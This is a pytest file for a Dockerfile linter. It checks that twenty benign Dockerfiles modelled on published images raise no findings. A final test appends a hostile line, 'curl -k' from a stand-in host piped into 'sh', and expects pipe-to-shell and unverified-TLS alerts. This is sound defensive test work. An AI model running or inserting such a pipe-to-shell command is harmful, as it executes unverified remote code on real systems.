"""Dockerfiles in the manner of well-kept projects raise no false alarm at persona regular.

Each is our own text with the constructs of a published image: how it makes accounts, verifies downloads, cleans up, takes from stages.
"""

# ruff: noqa: E501 - the lines are those of Dockerfiles
from __future__ import annotations

from datetime import UTC, datetime

import pytest

from pratique.inspection.dockerfiles import Written
from pratique.inspection.lint import Request, lint

SUM = "0123456789abcdef" * 4
KEPT: dict[str, str] = {
    "postgres": r"""
FROM debian:12.8-slim
RUN set -eux; groupadd -r db --gid=999; useradd -r -g db --uid=999 --home-dir=/var/lib/db --shell=/bin/bash db; install -d -o db -g db -m 1777 /var/lib/db
ENV GOSU_VERSION 1.17
RUN set -eux; \
    savedAptMark="$(apt-mark showmanual)"; \
    apt-get update; \
    apt-get install -y --no-install-recommends ca-certificates gnupg wget; \
    rm -rf /var/lib/apt/lists/*; \
    arch="$(dpkg --print-architecture | awk -F- '{ print $NF }')"; \
    wget -O /usr/local/bin/gosu "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$arch"; \
    wget -O /usr/local/bin/gosu.asc "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$arch.asc"; \
    export GNUPGHOME="$(mktemp -d)"; \
    gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys B42F6819007F00F88E364FD4036A9C25BF357DD4; \
    gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \
    gpgconf --kill all; \
    rm -rf "$GNUPGHOME" /usr/local/bin/gosu.asc; \
    apt-mark auto '.*' > /dev/null; \
    [ -z "$savedAptMark" ] || apt-mark manual $savedAptMark > /dev/null; \
    chmod +x /usr/local/bin/gosu; \
    gosu nobody true
RUN set -ex; \
    key='B97B0AFCAA1A47F044F244A07FCC7D46ACCC4CF8'; \
    export GNUPGHOME="$(mktemp -d)"; \
    gpg --batch --keyserver keyserver.ubuntu.com --recv-keys "$key"; \
    gpg --batch --export --armor "$key" > /usr/local/share/keyrings/db.asc; \
    rm -rf "$GNUPGHOME"
ENV PG_MAJOR 16
ENV PATH $PATH:/usr/lib/postgresql/$PG_MAJOR/bin
RUN set -ex; \
    repo="[ signed-by=/usr/local/share/keyrings/db.asc ] http://apt.postgresql.org/pub/repos/apt/ bookworm-pgdg main $PG_MAJOR"; \
    case "$(dpkg --print-architecture)" in \
        amd64) echo "deb $repo" > /etc/apt/sources.list.d/pgdg.list ;; \
        *) tempDir="$(mktemp -d)"; echo "deb [ trusted=yes ] file://$tempDir ./" > /etc/apt/sources.list.d/temp.list ;; \
    esac; \
    apt-get update; apt-get install -y --no-install-recommends "postgresql-$PG_MAJOR"; rm -rf /var/lib/apt/lists/*
RUN install --verbose --directory --owner db --group db --mode 3777 /var/run/postgresql
ENV PGDATA /var/lib/postgresql/data
RUN mkdir -p "$PGDATA" && chown -R db:db "$PGDATA" && chmod 1777 "$PGDATA"
VOLUME /var/lib/postgresql/data
COPY docker-entrypoint.sh /usr/local/bin/
ENTRYPOINT ["docker-entrypoint.sh"]
STOPSIGNAL SIGINT
EXPOSE 5432
CMD ["postgres"]
""",
    "redis": rf"""
FROM alpine:3.20
RUN set -eux; addgroup -S -g 1000 kv; adduser -S -G kv -u 999 kv
RUN set -eux; apk add --no-cache tzdata setpriv
ENV KV_VERSION 7.4.1
ENV KV_DOWNLOAD_URL http://download.redis.io/releases/redis-7.4.1.tar.gz
ENV KV_DOWNLOAD_SHA {SUM}
RUN set -eux; \
    apk add --no-cache --virtual .build-deps coreutils gcc make musl-dev openssl-dev wget; \
    wget -O kv.tar.gz "$KV_DOWNLOAD_URL"; \
    echo "$KV_DOWNLOAD_SHA *kv.tar.gz" | sha256sum -c -; \
    mkdir -p /usr/src/kv; \
    tar -xzf kv.tar.gz -C /usr/src/kv --strip-components=1; \
    rm kv.tar.gz; \
    export BUILD_TLS=yes; \
    make -C /usr/src/kv -j "$(nproc)" all; \
    make -C /usr/src/kv install; \
    find /usr/local/bin/kv* -maxdepth 0 -type f -not -name kv-server -exec sh -eux -c 'md5="$(md5sum "$1")"; test "$md5"' -- '{{}}' ';'; \
    rm -r /usr/src/kv; \
    apk del --no-network .build-deps
RUN mkdir /data && chown kv:kv /data
VOLUME /data
WORKDIR /data
COPY docker-entrypoint.sh /usr/local/bin/
ENTRYPOINT ["docker-entrypoint.sh"]
EXPOSE 6379
CMD ["kv-server"]
""",
    "nginx": r"""
FROM debian:bookworm-slim
LABEL maintainer="web@x.example"
ENV WEB_VERSION 1.27.3
RUN set -x \
    && groupadd --system --gid 101 web \
    && useradd --system --gid web --no-create-home --home /nonexistent --shell /bin/false --uid 101 web \
    && apt-get update \
    && apt-get install --no-install-recommends --no-install-suggests -y gnupg1 ca-certificates \
    && KEYS="573BFD6B3D8FBC641079A6ABABF5BD827BD9BF62 8540A6F18833A80E9C1653A42FD21310B49F6B46"; \
    export GNUPGHOME="$(mktemp -d)"; \
    found=''; \
    for key in $KEYS; do \
      for server in hkp://keyserver.ubuntu.com:80 pgp.mit.edu; do \
        gpg1 --batch --keyserver "$server" --keyserver-options timeout=10 --recv-keys "$key" && found=yes && break; \
      done; \
    done; \
    test -z "$found" && echo >&2 "error: no key" && exit 1; \
    gpg1 --export "$KEYS" > /usr/share/keyrings/web.gpg; \
    echo "deb [signed-by=/usr/share/keyrings/web.gpg] https://nginx.org/packages/mainline/debian/ bookworm nginx" >> /etc/apt/sources.list.d/web.list \
    && apt-get update && apt-get install --no-install-recommends -y nginx=${WEB_VERSION}-1 \
    && rm -rf /var/lib/apt/lists/* /etc/apt/sources.list.d/web.list \
    && ln -sf /dev/stdout /var/log/nginx/access.log \
    && ln -sf /dev/stderr /var/log/nginx/error.log
COPY docker-entrypoint.sh /
COPY 10-listen.sh 20-envsubst.sh /docker-entrypoint.d/
ENTRYPOINT ["/docker-entrypoint.sh"]
EXPOSE 80
STOPSIGNAL SIGQUIT
CMD ["nginx", "-g", "daemon off;"]
""",
    "python": rf"""
FROM debian:trixie-slim
ENV PATH /usr/local/bin:$PATH
ENV GPG_KEY 7169605F62C751356D054A26A821E680E5FA6305
ENV PYTHON_VERSION 3.13.1
ENV PYTHON_SHA256 {SUM}
RUN set -eux; apt-get update; apt-get install -y --no-install-recommends ca-certificates netbase tzdata; rm -rf /var/lib/apt/lists/*
RUN set -eux; \
    apt-get update; apt-get install -y --no-install-recommends dpkg-dev gcc gnupg libssl-dev make wget xz-utils; \
    wget -O python.tar.xz "https://www.python.org/ftp/python/${{PYTHON_VERSION%%[a-z]*}}/Python-$PYTHON_VERSION.tar.xz"; \
    echo "$PYTHON_SHA256 *python.tar.xz" | sha256sum -c -; \
    mkdir -p /usr/src/python; tar --extract --directory /usr/src/python --strip-components=1 --file python.tar.xz; rm python.tar.xz; \
    cd /usr/src/python; \
    ./configure --build="$(dpkg-architecture --query DEB_BUILD_GNU_TYPE)" --enable-shared --with-ensurepip; \
    make -j "$(nproc)" "EXTRA_CFLAGS=${{EXTRA_CFLAGS:-}}" "LDFLAGS=${{LDFLAGS:--Wl}},-rpath='\$\$ORIGIN/../lib'" python; make install; \
    cd /; rm -rf /usr/src/python; ldconfig; \
    find /usr/local -type f -executable -exec ldd '{{}}' ';' | awk '/=>/ {{ print $3 }}' | sort -u | xargs -r apt-mark manual; \
    apt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false; rm -rf /var/lib/apt/lists/*; \
    python3 --version
RUN set -eux; for src in idle3 pip3 python3; do dst="$(echo "$src" | tr -d 3)"; [ ! -e "/usr/local/bin/$dst" ]; ln -svT "$src" "/usr/local/bin/$dst"; done
CMD ["python3"]
""",
    "node": r"""
FROM buildpack-deps:bookworm
RUN groupadd --gid 1000 node && useradd --uid 1000 --gid node --shell /bin/bash --create-home node
ENV NODE_VERSION 22.12.0
RUN ARCH= && dpkgArch="$(dpkg --print-architecture)" \
  && case "${dpkgArch##*-}" in amd64) ARCH='x64';; arm64) ARCH='arm64';; *) echo "unsupported architecture"; exit 1 ;; esac \
  && export GNUPGHOME="$(mktemp -d)" && set -ex \
  && for key in C0D6248439F1D5604AAFFB4021D900FFDB233756 DD792F5973C6DE52C432CBDAC77ABFA00DDBF2B7; do \
      { gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys "$key" && gpg --batch --fingerprint "$key"; } || \
      { gpg --batch --keyserver keyserver.ubuntu.com --recv-keys "$key" && gpg --batch --fingerprint "$key"; } ; \
    done \
  && curl -fsSLO --compressed "https://nodejs.org/dist/v$NODE_VERSION/node-v$NODE_VERSION-linux-$ARCH.tar.xz" \
  && curl -fsSLO --compressed "https://nodejs.org/dist/v$NODE_VERSION/SHASUMS256.txt.asc" \
  && gpg --batch --decrypt --output SHASUMS256.txt SHASUMS256.txt.asc \
  && grep " node-v$NODE_VERSION-linux-$ARCH.tar.xz\$" SHASUMS256.txt | sha256sum -c - \
  && tar -xJf "node-v$NODE_VERSION-linux-$ARCH.tar.xz" -C /usr/local --strip-components=1 --no-same-owner \
  && rm "node-v$NODE_VERSION-linux-$ARCH.tar.xz" SHASUMS256.txt.asc SHASUMS256.txt \
  && ln -s /usr/local/bin/node /usr/local/bin/nodejs && node --version && rm -rf /tmp/*
COPY docker-entrypoint.sh /usr/local/bin/
ENTRYPOINT ["docker-entrypoint.sh"]
CMD [ "node" ]
""",
    "golang": rf"""
FROM buildpack-deps:bookworm-scm AS build
ENV PATH /usr/local/go/bin:$PATH
ENV GOLANG_VERSION 1.23.4
RUN set -eux; \
    arch="$(dpkg --print-architecture)"; arch="${{arch##*-}}"; url=; \
    case "$arch" in 'amd64') url='https://dl.google.com/go/go1.23.4.linux-amd64.tar.gz'; sha256='{SUM}' ;; *) exit 1 ;; esac; \
    wget -O go.tgz.asc "$url.asc"; wget -O go.tgz "$url" --progress=dot:giga; \
    echo "$sha256 *go.tgz" | sha256sum -c -; \
    GNUPGHOME="$(mktemp -d)"; export GNUPGHOME; \
    gpg --batch --keyserver keyserver.ubuntu.com --recv-keys 'EB4C1BFD4F042F6DDDCCEC917721F63BD38B4796'; \
    gpg --batch --verify go.tgz.asc go.tgz; gpgconf --kill all; rm -rf "$GNUPGHOME" go.tgz.asc; \
    tar -C /usr/local -xzf go.tgz; rm go.tgz; go version
FROM buildpack-deps:bookworm-scm
RUN set -eux; apt-get update; apt-get install -y --no-install-recommends g++ gcc libc6-dev make pkg-config; rm -rf /var/lib/apt/lists/*
ENV GOTOOLCHAIN=local
ENV GOPATH /go
ENV PATH $GOPATH/bin:/usr/local/go/bin:$PATH
COPY --from=build --link /usr/local/go/ /usr/local/go/
RUN mkdir -p "$GOPATH/src" "$GOPATH/bin" && chmod -R 1777 "$GOPATH"
WORKDIR $GOPATH
""",
    "grafana": r"""
ARG BASE_IMAGE=alpine:3.21.3
ARG GO_IMAGE=golang:1.23.7-alpine
FROM node:22-alpine AS js-builder
ENV NODE_OPTIONS=--max_old_space_size=8000
WORKDIR /tmp/dash
COPY package.json yarn.lock .yarnrc.yml ./
COPY packages packages
RUN apk add --no-cache make build-base python3
RUN yarn install --immutable
COPY tsconfig.json eslint.config.js ./
COPY public public
ENV NODE_ENV=production
RUN yarn build
FROM ${GO_IMAGE} AS go-builder
ARG COMMIT_SHA=""
ARG BUILD_BRANCH=""
RUN if grep -i -q alpine /etc/issue; then apk add --no-cache bash gcc g++ make git; fi
WORKDIR /tmp/dash
COPY go.mod go.sum ./
RUN go mod download
COPY pkg pkg
RUN make build-go COMMIT_SHA=${COMMIT_SHA} BUILD_BRANCH=${BUILD_BRANCH}
FROM ${BASE_IMAGE}
ARG GF_UID="472"
ARG GF_GID="0"
ENV PATH="/usr/share/dash/bin:$PATH" GF_PATHS_CONFIG="/etc/dash/dash.ini" GF_PATHS_DATA="/var/lib/dash" GF_PATHS_HOME="/usr/share/dash"
WORKDIR $GF_PATHS_HOME
RUN apk add --no-cache ca-certificates bash curl tzdata musl-utils && apk info -vv | sort
COPY --from=go-builder /tmp/dash/conf ./conf
RUN if [ ! $(getent group "$GF_GID") ]; then addgroup -S -g $GF_GID dash; fi && \
    adduser -S -u $GF_UID -G root dash && \
    mkdir -p "$GF_PATHS_HOME/.aws" "$GF_PATHS_DATA" && \
    cp conf/sample.ini "$GF_PATHS_CONFIG" && \
    chown -R "dash:root" "$GF_PATHS_DATA" "$GF_PATHS_HOME/.aws" && \
    chmod -R 750 "$GF_PATHS_DATA"
COPY --from=go-builder /tmp/dash/bin/dash* ./bin/
COPY --from=js-builder /tmp/dash/public ./public
EXPOSE 3000
ARG RUN_SH=./packaging/docker/run.sh
COPY ${RUN_SH} /run.sh
USER "$GF_UID"
ENTRYPOINT [ "/run.sh" ]
""",
    "prometheus": r"""
ARG ARCH="amd64"
ARG OS="linux"
FROM quay.io/prometheus/busybox-${OS}-${ARCH}:glibc
LABEL maintainer="The authors <dev@x.example>"
ARG ARCH="amd64"
ARG OS="linux"
COPY .build/${OS}-${ARCH}/metrics        /bin/metrics
COPY documentation/examples/metrics.yml  /etc/metrics/metrics.yml
COPY LICENSE                             /LICENSE
WORKDIR /metrics
RUN chown -R nobody:nobody /etc/metrics /metrics
USER       nobody
EXPOSE     9090
VOLUME     [ "/metrics" ]
ENTRYPOINT [ "/bin/metrics" ]
CMD        [ "--config.file=/etc/metrics/metrics.yml", \
             "--storage.tsdb.path=/metrics" ]
""",
    "traefik": r"""
FROM alpine:3.21
RUN apk add --no-cache ca-certificates tzdata
ARG TARGETPLATFORM
COPY ./dist/$TARGETPLATFORM/proxy /
EXPOSE 80
VOLUME ["/tmp"]
ENTRYPOINT ["/proxy"]
""",
    "caddy": rf"""
FROM alpine:3.21
RUN apk add --no-cache ca-certificates libcap mailcap
RUN set -eux; mkdir -p /config/web /data/web /etc/web /usr/share/web
ENV WEB_VERSION v2.9.1
RUN set -eux; \
    case "$(apk --print-arch)" in x86_64) arch='amd64'; checksum='{SUM}{SUM}' ;; *) echo >&2 "error: unsupported"; exit 1 ;; esac; \
    wget -O /tmp/web.tar.gz "https://github.com/x/web/releases/download/$WEB_VERSION/web_linux_$arch.tar.gz"; \
    echo "$checksum  /tmp/web.tar.gz" | sha512sum -c; \
    tar x -z -f /tmp/web.tar.gz -C /usr/bin web; rm -f /tmp/web.tar.gz; \
    setcap cap_net_bind_service=+ep /usr/bin/web; chmod +x /usr/bin/web; web version
ENV XDG_CONFIG_HOME /config
ENV XDG_DATA_HOME /data
LABEL org.opencontainers.image.source=https://github.com/x/web-docker org.opencontainers.image.licenses=Apache-2.0
EXPOSE 80
EXPOSE 443
EXPOSE 443/udp
EXPOSE 2019
WORKDIR /srv
CMD ["web", "run", "--config", "/etc/web/Webfile"]
""",
    "vault": r"""
FROM alpine:3.21 AS default
ARG BIN_NAME
ARG NAME=vault
ARG PRODUCT_VERSION
ARG TARGETOS TARGETARCH
LABEL name="Vault" version=${PRODUCT_VERSION}
ENV NAME=$NAME VERSION=$PRODUCT_VERSION
RUN addgroup ${NAME} && adduser -S -G ${NAME} ${NAME}
RUN apk add --no-cache libcap su-exec dumb-init tzdata
COPY dist/$TARGETOS/$TARGETARCH/$BIN_NAME /bin/
RUN mkdir -p /vault/logs /vault/file /vault/config && chown -R ${NAME}:${NAME} /vault && setcap cap_ipc_lock=+ep /bin/vault
VOLUME /vault/logs
VOLUME /vault/file
EXPOSE 8200
COPY .release/docker/docker-entrypoint.sh /usr/local/bin/docker-entrypoint.sh
ENTRYPOINT ["docker-entrypoint.sh"]
CMD ["server", "-dev"]
""",
    "minio": r"""
FROM golang:1.23-alpine AS build
ARG TARGETARCH
ARG RELEASE
ENV GOPATH=/go CGO_ENABLED=0
WORKDIR /build
RUN apk add -U --no-cache ca-certificates curl && apk add -U --no-cache --repository=https://dl-cdn.alpinelinux.org/alpine/edge/community minisign
RUN curl -s -q https://dl.x.example/store/store.${RELEASE} -o /go/bin/store && \
    curl -s -q https://dl.x.example/store/store.${RELEASE}.minisig -o /go/bin/store.minisig && \
    chmod +x /go/bin/store && \
    minisign -Vqm /go/bin/store -x /go/bin/store.minisig -P RWTx5Zr1tiHQLwG9keckT0c45M3AGeHD6IvimQHpyRywVWGbP1aVSGav
FROM registry.access.redhat.com/ubi9/ubi-micro:9.5
ENV STORE_ACCESS_KEY_FILE=access_key STORE_SECRET_KEY_FILE=secret_key STORE_ROOT_PASSWORD_FILE=secret_key STORE_CONFIG_ENV_FILE=config.env
COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/
COPY --from=build /go/bin/store* /usr/bin/
COPY dockerscripts/docker-entrypoint.sh /usr/bin/docker-entrypoint.sh
EXPOSE 9000
VOLUME ["/data"]
ENTRYPOINT ["/usr/bin/docker-entrypoint.sh"]
CMD ["store"]
""",
    "gitea": r"""
FROM docker.io/library/golang:1.23-alpine3.21 AS build-env
ARG GOPROXY
ENV GOPROXY=${GOPROXY:-direct}
ARG FORGE_VERSION
ARG TAGS="sqlite sqlite_unlock_notify"
RUN apk --no-cache add build-base git nodejs npm && rm -rf /var/cache/apk/*
COPY . ${GOPATH}/src/forge
WORKDIR ${GOPATH}/src/forge
RUN if [ -n "${FORGE_VERSION}" ]; then git checkout "${FORGE_VERSION}"; fi && make clean-all build
COPY docker/root /tmp/local
RUN chmod 755 /tmp/local/usr/bin/entrypoint /tmp/local/etc/s6/openssh/* && chmod 644 ${GOPATH}/src/forge/contrib/autocompletion/bash_autocomplete
FROM docker.io/library/alpine:3.21
# pratique ignore=management-port people push over SSH: it is the service
EXPOSE 22 3000
RUN apk --no-cache add bash ca-certificates curl gettext git linux-pam openssh s6 sqlite su-exec gnupg && rm -rf /var/cache/apk/*
RUN addgroup -S -g 1000 git && adduser -S -H -D -h /data/git -s /bin/bash -u 1000 -G git git \
  && echo "git:$(dd if=/dev/urandom bs=24 count=1 status=none | base64)" | chpasswd
ENV USER=git
VOLUME ["/data"]
ENTRYPOINT ["/usr/bin/entrypoint"]
CMD ["/usr/bin/s6-svscan", "/etc/s6"]
COPY --from=build-env /tmp/local /
COPY --from=build-env /go/src/forge/forge /app/forge/forge
""",
    "php": rf"""
FROM debian:bookworm-slim
RUN set -eux; {{ echo 'Package: php*'; echo 'Pin: release *'; echo 'Pin-Priority: -1'; }} > /etc/apt/preferences.d/no-debian-php
ENV PHP_INI_DIR /usr/local/etc/php
RUN set -eux; mkdir -p "$PHP_INI_DIR/conf.d"; [ ! -d /var/www/html ]; mkdir -p /var/www/html; chown www-data:www-data /var/www/html; chmod 1777 /var/www/html
ENV PHP_CFLAGS="-fstack-protector-strong -fpic -fpie -O2 -D_LARGEFILE_SOURCE"
ENV PHP_LDFLAGS="-Wl,-O1 -pie"
ENV PHP_URL="https://www.php.net/distributions/php-8.4.2.tar.xz" PHP_ASC_URL="https://www.php.net/distributions/php-8.4.2.tar.xz.asc"
ENV PHP_SHA256="{SUM}"
RUN set -eux; \
    apt-get update; apt-get install -y --no-install-recommends ca-certificates curl gnupg xz-utils; rm -rf /var/lib/apt/lists/*; \
    mkdir -p /usr/src; cd /usr/src; curl -fsSL -o php.tar.xz "$PHP_URL"; \
    if [ -n "$PHP_SHA256" ]; then echo "$PHP_SHA256 *php.tar.xz" | sha256sum -c -; fi; \
    curl -fsSL -o php.tar.xz.asc "$PHP_ASC_URL"; gpgv php.tar.xz.asc php.tar.xz
COPY docker-php-source /usr/local/bin/
STOPSIGNAL SIGQUIT
EXPOSE 9000
CMD ["php-fpm"]
""",
    "rust": rf"""
FROM buildpack-deps:bookworm
ENV RUSTUP_HOME=/usr/local/rustup CARGO_HOME=/usr/local/cargo PATH=/usr/local/cargo/bin:$PATH RUST_VERSION=1.83.0
RUN set -eux; \
    case "$(dpkg --print-architecture)" in amd64) rustArch='x86_64-unknown-linux-gnu'; sum='{SUM}' ;; *) exit 1 ;; esac; \
    url="https://static.rust-lang.org/rustup/archive/1.27.1/${{rustArch}}/rustup-init"; \
    wget "$url"; echo "${{sum}} *rustup-init" | sha256sum -c -; chmod +x rustup-init; \
    ./rustup-init -y --no-modify-path --profile minimal --default-toolchain $RUST_VERSION; \
    rm rustup-init; chmod -R g+w $RUSTUP_HOME $CARGO_HOME; cargo --version
""",
    "python-app": r"""
# syntax=docker/dockerfile:1
FROM python:3.12-slim AS build
ENV PIP_NO_CACHE_DIR=1 PYTHONUNBUFFERED=1
RUN python -m venv /opt/venv
ENV PATH=/opt/venv/bin:$PATH
WORKDIR /src
COPY requirements.txt .
RUN --mount=type=cache,target=/root/.cache/pip --mount=type=secret,id=index,target=/root/.netrc pip install --require-hashes -r requirements.txt
COPY . .
RUN pip install --no-deps .
FROM python:3.12-slim
RUN useradd --uid 10001 --no-create-home app
COPY --from=build /opt/venv /opt/venv
ENV PATH=/opt/venv/bin:$PATH
USER 10001
EXPOSE 8000
HEALTHCHECK CMD ["python", "-c", "import urllib.request; urllib.request.urlopen('http://127.0.0.1:8000/healthz')"]
CMD ["gunicorn", "app:app"]
""",
    "node-app": r"""
FROM node:22-bookworm-slim AS deps
WORKDIR /app
COPY package.json package-lock.json ./
RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev && npm cache clean --force
FROM gcr.io/distroless/nodejs22-debian12:nonroot
ENV NODE_ENV=production NODE_OPTIONS=--enable-source-maps
WORKDIR /app
COPY --from=deps /app/node_modules ./node_modules
COPY src ./src
COPY .env.example ./
USER nonroot
CMD ["src/server.js"]
""",
    "go-app": r"""
FROM --platform=$BUILDPLATFORM golang:1.23 AS build
ARG TARGETOS TARGETARCH
WORKDIR /src
RUN --mount=type=ssh --mount=type=cache,target=/go/pkg/mod git config --global url."ssh://git@github.com/".insteadOf "https://github.com/"
COPY . .
RUN --mount=type=cache,target=/root/.cache/go-build CGO_ENABLED=0 GOOS=$TARGETOS GOARCH=$TARGETARCH go build -trimpath -ldflags='-s -w' -o /out/app ./cmd/app
FROM scratch
COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/
COPY --from=build /out/app /app
USER 65532:65532
ENTRYPOINT ["/app"]
""",
    "tomcat": r"""
FROM eclipse-temurin:21-jre-noble
ENV CATALINA_HOME /usr/local/tomcat
ENV PATH $CATALINA_HOME/bin:$PATH
RUN mkdir -p "$CATALINA_HOME"
WORKDIR $CATALINA_HOME
ENV TOMCAT_NATIVE_LIBDIR $CATALINA_HOME/native-jni-lib
ENV LD_LIBRARY_PATH ${LD_LIBRARY_PATH:+$LD_LIBRARY_PATH:}$TOMCAT_NATIVE_LIBDIR
COPY --from=tomcat:10.1.34-jdk21@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef $CATALINA_HOME $CATALINA_HOME
RUN set -eux; find ./bin/ -name '*.sh' -exec sed -ri 's|^#!/bin/sh$|#!/usr/bin/env bash|' '{}' +; chmod -R +rX .; chmod 1777 logs temp work
RUN set -eux; nativeLines="$(catalina.sh configtest 2>&1)"; nativeLines="$(echo "$nativeLines" | grep 'Native' || true)"; test -n "$nativeLines"
EXPOSE 8080
ENTRYPOINT []
CMD ["catalina.sh", "run"]
""",
    "rails-app": r"""
ARG RUBY_VERSION=3.3.6
FROM ruby:$RUBY_VERSION-slim AS base
WORKDIR /rails
RUN apt-get update -qq && apt-get install --no-install-recommends -y curl libjemalloc2 libvips sqlite3 && rm -rf /var/lib/apt/lists /var/cache/apt/archives
ENV RAILS_ENV="production" BUNDLE_PATH="/usr/local/bundle" LD_PRELOAD="/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"
FROM base AS build
RUN apt-get update -qq && apt-get install --no-install-recommends -y build-essential git pkg-config && rm -rf /var/lib/apt/lists /var/cache/apt/archives
COPY Gemfile Gemfile.lock ./
RUN bundle install && rm -rf ~/.bundle/ "${BUNDLE_PATH}"/ruby/*/cache
COPY . .
RUN SECRET_KEY_BASE_DUMMY=1 ./bin/rails assets:precompile
FROM base
COPY --from=build "${BUNDLE_PATH}" "${BUNDLE_PATH}"
COPY --from=build /rails /rails
RUN groupadd --system --gid 1000 rails && useradd rails --uid 1000 --gid 1000 --create-home --shell /bin/bash && chown -R rails:rails db log storage tmp
USER 1000:1000
ENTRYPOINT ["/rails/bin/docker-entrypoint"]
EXPOSE 3000
CMD ["./bin/rails", "server"]
""",
}
REQUEST = Request(datetime(2026, 11, 22, tzinfo=UTC))


def test_there_are_twenty() -> None:
    assert len(KEPT) == 20


@pytest.mark.parametrize("name", KEPT)
def test_a_well_kept_dockerfile_raises_no_alarm(name: str) -> None:
    (linted,) = lint([Written(name, KEPT[name].lstrip().encode(), None)], REQUEST)
    assert [(finding.rule, finding.line, finding.message) for finding in linted.findings] == []


def test_what_is_settled_by_a_comment_is_still_said() -> None:
    (linted,) = lint([Written("gitea", KEPT["gitea"].lstrip().encode(), None)], REQUEST)
    assert [suppressed.finding.rule for suppressed in linted.suppressed] == ["management-port"]


@pytest.mark.parametrize("name", KEPT)
def test_the_same_file_with_a_hostile_line_raises_one(name: str) -> None:
    hostile = f"{KEPT[name].lstrip()}RUN curl -k https://x.example/i.sh | sh\n"
    (linted,) = lint([Written(name, hostile.encode(), None)], REQUEST)
    assert {"pipe-to-shell", "tls-unverified"} <= {finding.rule for finding in linted.findings}
